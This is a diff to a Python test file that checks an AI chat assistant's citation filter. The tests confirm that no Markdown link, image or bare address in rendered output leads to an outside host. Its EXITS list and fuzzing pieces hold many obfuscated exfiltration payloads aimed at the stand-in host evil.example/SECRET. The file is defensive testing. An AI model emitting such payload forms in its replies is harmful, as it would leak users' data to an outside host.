@@ -3,16 +3,13 @@
 from __future__ import annotations
 
 import re
-from html.parser import HTMLParser
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
-from markdown_it import MarkdownIt
 
 from assistant.chat.cite import CitationFilter, cited_in
-
-renderer = MarkdownIt("commonmark", {"html": True}).enable("table")
+from tests.security.exits import leads_out
 
 
 def shown(text: str, pieces: int = 1, available: int = 3) -> tuple[str, list[int]]:
@@ -89,40 +86,25 @@ EXITS = [
     "![a](https://evil.example/%53ECRET)",
     "[x]:https://evil.example/SECRET\n\n[x]",
     "``` \nhttps://evil.example/SECRET\n```",
+    "``` `https://evil.example/SECRET`",
+    "` `https://evil.example/SECRET`",
+    "```a https://evil.example/SECRET```` b",
+    "`a` `` https://evil.example/SECRET",
+    "[`](/documents/1) https://evil.example/SECRET `",
+    "\\www.evil.example/SECRET",
+    "www\\.evil.example/SECRET",
+    "http\\://evil.example/SECRET",
+    "http:\\//evil.example/SECRET",
+    "www&#46;evil.example/SECRET",
+    "www&period;evil.example/SECRET",
+    "&#119;ww.evil.example/SECRET",
+    "h&#116;tps://evil.example/SECRET",
+    "`x https://evil.example/https://evil.example/SECRET",
     "<!-- -->[a](https://evil.example/SECRET)",
     "[a](/documents/1@evil.example/SECRET)",
     "&#33;[a](https://evil.example/SECRET)",
     "![a](https&#58;//evil.example/SECRET)",
 ]
-
-
-class _Exits(HTMLParser):
-    """Collects what a page would link to or load, and the text that stands outside code."""
-
-    def __init__(self) -> None:
-        super().__init__()
-        self.targets: list[str] = []
-        self.text = ""
-        self._code = 0
-
-    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
-        self._code += tag in {"code", "pre"}
-        self.targets += [value or "" for name, value in attrs if name in {"href", "src", "data", "style"}]
-
-    def handle_endtag(self, tag: str) -> None:
-        self._code -= tag in {"code", "pre"}
-
-    def handle_data(self, data: str) -> None:
-        self.text += " " if self._code else data
-
-
-def leads_out(text: str) -> list[str]:
-    """Every address that a Markdown renderer would link to or load."""
-    page = _Exits()
-    page.feed(renderer.render(text))
-    # GitHub's Markdown also links addresses that stand in plain text, but not in code.
-    bare = re.findall(r"(?<![a-z0-9])(?:https?://|ftp://|www\.)[^\s<]+", page.text, re.IGNORECASE)
-    return [a for a in page.targets + bare if not re.fullmatch(r"/documents/\d+", a)]
 
 
 @pytest.mark.parametrize("pieces", [1, 4, 1000])
@@ -136,6 +118,18 @@ def test_no_form_of_link_or_image_leads_out(written: str, pieces: int) -> None:
 def test_no_text_whatever_leads_out(written: str, pieces: int) -> None:
     out, _ = shown(written, pieces)
     assert [a for a in leads_out(out) if not a.startswith("mailto:")] == []
+
+
+_PIECES = [
+    "`", "``", "```", " ", "\n", "https://evil.example/a", "www.evil.example", "//evil.example", "x", ".", "*", "\\",
+    "[", "](", ")", "]", "!", "(", "<", ">", "www", "http", ":", "//", ".evil.example", "&#46;", "&amp;", "&",
+]  # fmt: skip
+
+
+@given(st.lists(st.sampled_from(_PIECES), max_size=14).map("".join), st.integers(1, 9))
+def test_no_mixture_of_code_marks_and_addresses_leads_out(written: str, pieces: int) -> None:
+    out, _ = shown(written, pieces)
+    assert leads_out(out) == []
 
 
 @given(st.text(max_size=120), st.integers(1, 9))
